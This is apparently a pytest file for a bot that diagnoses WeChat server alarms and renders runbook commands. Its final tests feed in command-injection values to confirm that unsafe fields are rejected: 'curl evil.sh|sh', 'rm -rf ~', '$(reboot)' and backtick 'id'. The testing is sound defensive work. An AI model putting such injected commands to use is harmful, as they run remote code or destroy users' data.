from __future__ import annotations

import pytest

from bot.alarm import Alarm, parse
from bot.diagnosis import diagnose, find_all, find_target
from bot.knowledge import Knowledge

from .test_alarm import SAMPLES, VARIANTS

CASES = {c["id"]: c["alarm_text"] for c in SAMPLES + VARIANTS}


def _findings(case_id: str, knowledge: Knowledge) -> list[str]:
    (alarm,) = parse(CASES[case_id], knowledge.matcher)
    return [f.id for f in find_all(alarm)]


@pytest.mark.parametrize(
    ("case_id", "expected"),
    [
        ("wx-01", ["reply_not_swapped", "success_in_text_reply"]),
        ("wx-02", ["quoted_success", "third_party_platform"]),
        ("wx-05", ["http_not_found", "outer_ip"]),
        ("wx-12", ["empty_text_content", "createtime_ms", "outer_ip"]),
        ("wx-17", []),
        ("wx-21", []),
        ("wx-27", ["pay_empty_ack"]),
        ("guide-invalid", ["error_text"]),
        ("guide-timeout", []),
        ("cut-off-last-group", ["html_page"]),
        ("flag-and-colon-groups", ["decrypt_fail", "third_party_platform"]),
        ("chat-before-question-after", ["network_error"]),
        ("no-content-line", ["quoted_success"]),
    ],
)
def test_findings_of_real_alarms(
    case_id: str, expected: list[str], knowledge: Knowledge
) -> None:
    assert _findings(case_id, knowledge) == expected


def _alarm(**sample: str) -> Alarm:
    return Alarm(type="invalid_response", sample=sample)


@pytest.mark.parametrize(
    ("sample", "expected"),
    [
        ({"response_content": "success\n", "response_length": "8"}, ["success_padded"]),
        ({"response_content": "success", "response_length": "7"}, []),
        ({"response_content": '{"errcode":0}'}, ["json_body"]),
        ({"response_content": "<xml><ToUserName>a</ToUserName>"}, ["malformed_xml"]),
        (
            {
                "response_content": "<xml><ToUserName><![CDATA[gh_1]]></ToUserName>"
                "<MsgType><![CDATA[event]]></MsgType><Event>subscribe</Event></xml>"
            },
            ["echo_request"],
        ),
        ({"http code": "405"}, ["http_method"]),
        ({"http code": "403"}, ["http_forbidden"]),
        ({"http code": "400"}, ["http_client_error"]),
        ({"http code": "502"}, ["http_server_error"]),
        ({"http code": "302"}, ["http_redirect"]),
        ({"ip": "10.1.2.3"}, ["private_ip"]),
        ({"ip": "203.0.113.5"}, []),
        ({"3rdUrl": "http://a.example.com:8080/wx"}, ["url_bad_port"]),
        ({"3rdUrl": "https://a.example.com/wx"}, []),
    ],
)
def test_findings_from_sample_values(
    sample: dict[str, str], expected: list[str]
) -> None:
    assert [f.id for f in find_all(_alarm(**sample))] == expected


def test_cut_off_xml_is_not_called_malformed() -> None:
    alarm = _alarm(response_content="<xml><ToUserName>a</To", response_length="900")
    assert "malformed_xml" not in [f.id for f in find_all(alarm)]


def test_ticket_failure_with_wrong_body() -> None:
    alarm = Alarm(type="ticket_failure", sample={"response_content": '"success"'})
    assert [f.id for f in find_all(alarm)] == ["ticket_reply"]


def test_target_reads_url_domain_and_ip() -> None:
    alarm = _alarm(**{"3rdUrl": "http://wx.example.cn/notify", "ip": "198.51.100.1"})
    target = find_target(alarm)
    assert (target.domain, target.ip, target.port) == (
        "wx.example.cn",
        "198.51.100.1",
        80,
    )


def test_diagnosis_adds_variant_steps_and_escalation(knowledge: Knowledge) -> None:
    (pay,) = parse(CASES["wx-27"], knowledge.matcher)
    diagnosis = diagnose(pay, knowledge)
    assert diagnosis.variants == ("pay_notify",)
    pay_steps = knowledge.alarms["invalid_response"].variants["pay_notify"].steps
    assert diagnosis.steps[: len(pay_steps)] == tuple(pay_steps)
    (ticket,) = parse(CASES["wx-24"], knowledge.matcher)
    assert diagnose(ticket, knowledge).escalate
    assert not diagnosis.escalate


def test_event_names_translate(knowledge: Knowledge) -> None:
    from bot.diagnosis import lookup_event

    assert "取消关注" in (lookup_event("UnSubscribe", knowledge, "zh") or "")
    assert lookup_event("NoSuchEvent", knowledge, "zh") is None
    for name in (
        "UnSubscribe",
        "Click",
        "Text",
        "TEMPLATESENDJOBFINISH",
        "Scan QRCode",
        "Location Report",
    ):
        assert lookup_event(name, knowledge, "zh"), name


def test_conditional_step_follows_the_sample(knowledge: Knowledge) -> None:
    (with_body,) = parse(CASES["wx-02"], knowledge.matcher)
    (empty,) = parse(CASES["chat-before-question-after"], knowledge.matcher)
    with_ids = [s.id for s in diagnose(with_body, knowledge).steps]
    empty_ids = [s.id for s in diagnose(empty, knowledge).steps]
    assert "check-network-error" not in with_ids
    assert "check-network-error" in empty_ids


@pytest.mark.parametrize(
    ("sample", "field", "expected"),
    [
        ({"3rdUrl": "http://a.com;curl evil.sh|sh/cb"}, "domain", None),
        ({"3rdUrl": "http://a.com/x'; rm -rf ~; '"}, "url", None),
        (
            {"3rdUrl": "http://a.example.com/wx?x=1&y=2"},
            "url",
            "http://a.example.com/wx?x=1&y=2",
        ),
        ({"3rdUrl": "http://a.example.com/wx"}, "port", 80),
        ({"3rdUrl": "https://a.example.com/wx"}, "port", 443),
        ({"3rdUrl": "https://a.example.com:8443/wx"}, "port", 8443),
        ({"IP": "1.2.3.4;id"}, "ip", None),
        ({"ip": "198.51.*.*"}, "ip", None),
        ({"ip": "198.51.100.7"}, "ip", "198.51.100.7"),
        ({"Stamp": "1632802806"}, "stamp", "1632802806"),
        ({"Stamp": "1`id`"}, "stamp", None),
        (
            {"OpenID": "oOHKDpnJh_rgiOaPq_N9RtlnnudS"},
            "openid",
            "oOHKDpnJh_rgiOaPq_N9RtlnnudS",
        ),
        ({"OpenID": "$(reboot)"}, "openid", None),
    ],
)
def test_target_accepts_only_shell_safe_values(
    sample: dict[str, str], field: str, expected: object
) -> None:
    assert getattr(find_target(_alarm(**sample)), field) == expected


def test_crafted_alarm_cannot_inject_into_runbook_commands(
    knowledge: Knowledge,
) -> None:
    from bot.render import ReplyRenderer

    text = (
        "Appid: wx1234567890abcdef\n"
        "内容: 微信服务器连接公众号开发者服务器时发生超时,超时时间为5秒\n"
        "次数: 5分钟 3次\n"
        "错误样例: [3rdUrl=http://a.com;curl evil.sh|sh/cb][IP=1.2.3.4;id][Stamp=1;id]"
    )
    (alarm,) = parse(text, knowledge.matcher)
    reply = ReplyRenderer(knowledge).alarm_reply([diagnose(alarm, knowledge)])
    commands = [line for line in reply.splitlines() if line.lstrip().startswith("$")]
    assert commands
    for line in commands:
        assert "evil" not in line
        assert ";id" not in line
